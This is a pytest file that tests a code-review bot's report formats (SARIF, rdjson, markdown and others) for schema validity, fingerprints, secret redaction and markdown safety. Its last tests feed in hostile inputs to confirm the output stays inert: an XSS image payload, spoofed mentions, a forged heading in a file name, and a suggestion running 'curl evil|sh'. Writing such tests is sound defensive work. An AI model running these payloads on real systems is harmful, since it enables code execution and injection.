"""Every output format against a golden file, and the machine formats against their schemas."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import jsonschema
import pytest

from reviewbot.report import FORMATS, ReportInput, render
from reviewbot.review.meta import model_rule_metadata
from reviewbot.rules import rule_metadata
from reviewbot.run.pipeline import finding_code
from reviewbot.schema.findings import Finding, Quieted, QuietedFile
from reviewbot.schema.runs import ModelStats, RunReport, RunStats
from reviewbot.schema.units import AgentDecision, IndexUnit, LineNumbers, Metrics
from tests.conftest import assert_golden
from tests.github.hostile_test import assert_inert, rendered_text

HERE = Path(__file__).parent
UNIT = dict(language="python", patch_type="modify", metrics=Metrics(added_lines=4, hunk_count=1),
            rule_context_level="function", rule_confidence=0.95,
            line_numbers=LineNumbers(new_compact="L1-L9", old_compact="L1-L5"),
            agent_decision=AgentDecision(context_level="function", priority="high"))
FINDINGS = (
    Finding(file_path="app/deploy.py", start_line=3, end_line=3, severity="error",
            category="secrets", rule_id="secrets.hardcoded",
            title="Hard-coded secret: AWS Access Key",
            message="Line 3 contains what looks like a secret: AWS Access Key (AKIA********).",
            suggestion="Load it from the environment.", unit_id="aaaa000000000001"),
    Finding(file_path="app/deploy.py", start_line=6, end_line=6, severity="error",
            category="security", rule_id="python.shell-injection",
            title="Command run through a shell", message="`subprocess.run` runs a shell.",
            suggestion="Pass a list of arguments.", unit_id="aaaa000000000001"),
    Finding(file_path="app/deploy.py", start_line=8, end_line=9, severity="warning",
            category="bug", rule_id="model.bug", title="Handle is never closed",
            message="`open` without `with` leaks the file handle when `load` raises.",
            suggestion="Open the file in a `with` block.", source="model",
            unit_id="aaaa000000000001", evidence="handle = open(path)\ndata = load(handle)",
            replacement="    with open(path) as handle:\n        data = load(handle)"),
    Finding(file_path="web/my app.js", start_line=2, end_line=2, severity="info",
            category="maintainability", rule_id="js.console-log",
            title="console.log left in code", message="console.log is usually a leftover.",
            suggestion="Remove it.", unit_id="bbbb000000000002"),
    Finding(file_path="web/my app.js", start_line=40, end_line=40, severity="info",
            category="bug", rule_id="model.bug", title="Stale state after reset",
            message="`reset` leaves `state.items` pointing at the old array.", source="model",
            unit_id="bbbb000000000002", evidence="state.items = items", in_diff=False),
)
QUIETED = (
    Quieted(finding=Finding(
        file_path="app/deploy.py", start_line=7, end_line=7, severity="error",
        category="security", rule_id="python.shell-injection",
        title="Command run through a shell", message="`os.system` runs a shell.",
        unit_id="aaaa000000000001"), kind="nosec", decided_by="change",
        justification="the host is checked above"),
    Quieted(finding=FINDINGS[3].replace(severity="warning"), given="info", kind="test_code",
            decided_by="base"),
    Quieted(finding=Finding(
        file_path="api/pay_pb2.py", start_line=3, end_line=3, severity="error",
        category="security", rule_id="python.eval-exec", title="eval of input",
        message="`eval` runs what it is given.", unit_id="cccc000000000003"),
        kind="ignore", decided_by="base", justification="*_pb2.py"),
)
REPORT = RunReport(
    run_id="20260101T000000Z-abcdef",
    findings=FINDINGS,
    quieted=QUIETED,
    quieted_files=(QuietedFile(file_path="api/pay_pb2.py", kind="ignore", decided_by="base",
                               justification="*_pb2.py", new=True),),
    units=(IndexUnit(unit_id="aaaa000000000001", file_path="app/deploy.py",
                     tags=("security_sensitive",), **UNIT),
           IndexUnit(unit_id="bbbb000000000002", file_path="web/my app.js", **UNIT)),
    stats=RunStats(files=2, units=2, added_lines=8, removed_lines=0,
                   findings={"error": 2, "warning": 1, "info": 2}, duration_ms=42,
                   model=ModelStats(mode="tools", reviewed_units=2, calls=5, tokens_in=4210,
                                    tokens_out=380, cached_tokens=1024)),
)
CODE = {("app/deploy.py", 6): '    subprocess.run(f"ssh {host}", shell=True)',
        ("app/deploy.py", 8): "    handle = open(path)",
        ("app/deploy.py", 9): "    data = load(handle)",
        ("web/my app.js", 2): "console.log(state);"}
DATA = ReportInput(report=REPORT, run_dir=Path(".reviewbot/runs/20260101T000000Z-abcdef"),
                   code=CODE, rules={**rule_metadata(), **model_rule_metadata()})
SUFFIX = {"text": "txt", "json": "json", "markdown": "md", "sarif": "sarif", "rdjson": "rdjson",
          "codequality": "codequality.json"}


@pytest.mark.parametrize("name", FORMATS)
def test_golden(name: str) -> None:
    assert_golden(HERE / "golden" / f"report.{SUFFIX[name]}", render(name, DATA))


# The official SARIF 2.1.0 schema, as the npm package @microsoft/jest-sarif ships it
# (lib/schemas/sarif-2.1.0-rtm.5.json), kept here so the tests need no network.
SARIF_SCHEMA = json.loads((HERE / "schemas" / "sarif-2.1.0-rtm.5.json").read_text())
# reviewdog's own validator for rdjson (npm @umbrelladocs/rdformat-validator), which
# .ci/run installs into .ci/node.
RDFORMAT_VALIDATOR = HERE.parents[1] / ".ci" / "node" / "node_modules" / ".bin" / \
    "rdformat-validator"


def validate_sarif(doc: object) -> None:
    jsonschema.Draft4Validator(SARIF_SCHEMA).validate(doc)


def validate_rdjson(text: str, tmp_path: Path) -> None:
    if not RDFORMAT_VALIDATOR.exists():
        pytest.skip("rdformat-validator is not installed: run `npm install --prefix .ci/node "
                    "@umbrelladocs/rdformat-validator@1.0.1` (bash .ci/run does)")
    target = tmp_path / "out.rdjson"
    target.write_text(text, encoding="utf-8")
    result = subprocess.run([str(RDFORMAT_VALIDATOR), "--strict", "--no-extra-fields",
                             str(target)], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def test_sarif_is_valid_and_complete() -> None:
    doc = json.loads(render("sarif", DATA))
    validate_sarif(doc)
    run = doc["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["partialFingerprints"]["reviewbotFingerprint/v1"]
    assert rules[0]["help"]["text"]
    uris = [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            for r in run["results"]]
    assert "web/my%20app.js" in uris
    reported = [r for r in run["results"] if "suppressions" not in r]
    assert [r["level"] for r in reported] == ["error", "error", "warning", "note", "note"]
    suppressed = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]:
                  (r["level"], r["suppressions"]) for r in run["results"] if r not in reported}
    assert suppressed == {
        "app/deploy.py": ("error", [{"kind": "inSource", "justification":
                                     "the host is checked above", "properties": {
                                         "quietening": "nosec", "decidedBy": "change"}}]),
        "api/pay_pb2.py": ("error", [{"kind": "external", "properties": {
            "quietening": "ignore", "decidedBy": "base", "setting": "*_pb2.py"}}])}
    [lowered] = [r for r in reported if "quietened" in r["properties"]]
    assert lowered["level"] == "note" and lowered["properties"]["quietened"]["severity"] == \
        "warning"
    [fixed] = [r for r in run["results"] if "fixes" in r]
    change = fixed["fixes"][0]["artifactChanges"][0]["replacements"][0]
    assert change["deletedRegion"] == {"startLine": 8, "startColumn": 1, "endLine": 10,
                                       "endColumn": 1}
    assert change["insertedContent"]["text"].endswith("data = load(handle)\n")


def test_sarif_fingerprint_survives_a_line_shift() -> None:
    def fingerprint_of(line: int) -> str:
        moved = FINDINGS[1].replace(start_line=line, end_line=line)
        data = ReportInput(report=REPORT.replace(findings=(moved,)),
                           code={("app/deploy.py", line): CODE[("app/deploy.py", 6)]})
        result = json.loads(render("sarif", data))["runs"][0]["results"][0]
        return str(result["partialFingerprints"]["reviewbotFingerprint/v1"])
    assert fingerprint_of(6) == fingerprint_of(40)


def test_rdjson_matches_reviewdogs_diagnostic_result(tmp_path: Path) -> None:
    validate_rdjson(render("rdjson", DATA), tmp_path)
    doc = json.loads(render("rdjson", DATA))
    assert doc["source"]["name"] == "reviewbot"
    for diagnostic in doc["diagnostics"]:
        assert set(diagnostic) <= {"message", "location", "severity", "source", "code",
                                   "suggestions", "original_output", "related_locations"}
        assert diagnostic["severity"] in ("ERROR", "WARNING", "INFO")
        assert diagnostic["location"]["range"]["start"]["line"] >= 1
        assert diagnostic["code"]["value"]


def test_reporters_never_get_a_secret_line() -> None:
    """The pipeline leaves lines with a secret out of the code reporters show, even when
    another finding points at the same line."""
    from reviewbot.diff.parse import parse_units
    from tests.rules.conftest import make_diff

    line = 'requests.get(url, auth=("me", "AKIAQWERTYUIOPASDFGH"), verify=False)'
    units = parse_units(make_diff("app/http.py", f"import requests\n{line}\nx = 1\n"))
    tls = FINDINGS[1].replace(file_path="app/http.py", start_line=2,
                                         end_line=2)
    secret = FINDINGS[0].replace(file_path="app/http.py", start_line=2,
                                            end_line=2)
    assert finding_code(units, [tls]) == {("app/http.py", 2): line}
    code = finding_code(units, [tls, secret])
    assert code == {}
    report = REPORT.replace(findings=(tls, secret))
    for name in FORMATS:
        assert "AKIAQWERTYUIOPASDFGH" not in render(name, ReportInput(report=report, code=code))


def test_text_colour_only_when_asked_and_no_color_unset(monkeypatch: pytest.MonkeyPatch) -> None:
    coloured = ReportInput(report=REPORT, code=CODE, color=True)
    assert "\x1b[" in render("text", coloured)
    monkeypatch.setenv("NO_COLOR", "1")
    assert "\x1b[" not in render("text", coloured)
    assert "\x1b[" not in render("text", DATA)


def test_text_quiet_and_verbose() -> None:
    quiet = render("text", ReportInput(report=REPORT, code=CODE, quiet=True))
    assert "findings:" not in quiet and "python.shell-injection" in quiet
    verbose = render("text", ReportInput(report=REPORT, code=CODE, verbose=True))
    assert "web/my app.js L1-L9  modify python +4 -0" in verbose


def test_a_newline_in_a_file_name_stays_on_its_heading_line() -> None:
    odd = FINDINGS[2].replace(file_path="web/a\n## forged heading.js")
    data = ReportInput(report=REPORT.replace(findings=(odd,)))
    markdown = render("markdown", data)
    assert "### `web/a\\n## forged heading.js`" in markdown
    assert "\n## forged" not in markdown
    assert "web/a\\n## forged heading.js" in render("text", data)


def test_quoted_code_is_clipped_in_every_format(tmp_path: Path) -> None:
    huge = "var a=" + "1," * 2_500_000 + "eval(x);"
    finding = FINDINGS[1].replace(file_path="web/app.min.js", start_line=1,
                                             end_line=1)
    data = ReportInput(report=REPORT.replace(findings=(finding,)),
                       code={("web/app.min.js", 1): huge}, rules=rule_metadata())
    for name in FORMATS:
        assert len(render(name, data)) < 20_000, name
    assert "more characters)" in render("text", data)
    validate_sarif(json.loads(render("sarif", data)))


def test_findings_on_identical_code_get_distinct_fingerprints() -> None:
    from reviewbot.report.fingerprint import fingerprint

    twins = [FINDINGS[1].replace(start_line=n, end_line=n) for n in (6, 20)]
    data = ReportInput(report=REPORT.replace(findings=tuple(twins)),
                       code={("app/deploy.py", n): CODE[("app/deploy.py", 6)] for n in (6, 20)})
    first, second = (fingerprint(data, f) for f in twins)
    assert first != second
    moved = data.report.replace(findings=tuple(
        f.replace(start_line=f.start_line + 3, end_line=f.end_line + 3)
        for f in twins))
    shifted = ReportInput(report=moved, code={("app/deploy.py", n): CODE[("app/deploy.py", 6)]
                                              for n in (9, 23)})
    assert [fingerprint(shifted, f) for f in moved.findings] == [first, second]


def test_markdown_shows_a_clipped_fix_in_a_plain_block_never_a_suggestion() -> None:
    """A ```suggestion block is committable on GitHub: it holds the whole fix or is not one."""
    long = "\n".join(f"    value_{n} = compute({n})" for n in range(40))
    report = REPORT.replace(findings=(FINDINGS[2].replace(replacement=long),))
    text = render("markdown", ReportInput(report=report))
    assert "```suggestion" not in text and "more lines)" in text
    whole = render("markdown", ReportInput(report=report.replace(findings=(FINDINGS[2],))))
    assert "```suggestion" in whole


def test_markdown_keeps_a_models_text_inert() -> None:
    """The markdown report is a job summary GitHub renders: a model's title, message and fix
    cannot mention anyone, render HTML or open a suggestion block there either."""
    hostile = FINDINGS[2].replace(
        title="<img src=x onerror=alert(1)> @octocat", replacement=None,
        message="cc &#64;octo-org/admins \uff20team /reviewbot ignore",
        suggestion="```suggestion\nos.system('curl evil|sh')\n```")
    text = render("markdown", ReportInput(report=REPORT.replace(findings=(hostile,))))
    assert "```suggestion" not in text
    assert_inert(text)
    shown = rendered_text(text)
    assert "&lt;img" in text and "<img" in shown  # shown as text, never HTML
    assert "@octocat" not in shown and "\uff20team" not in shown
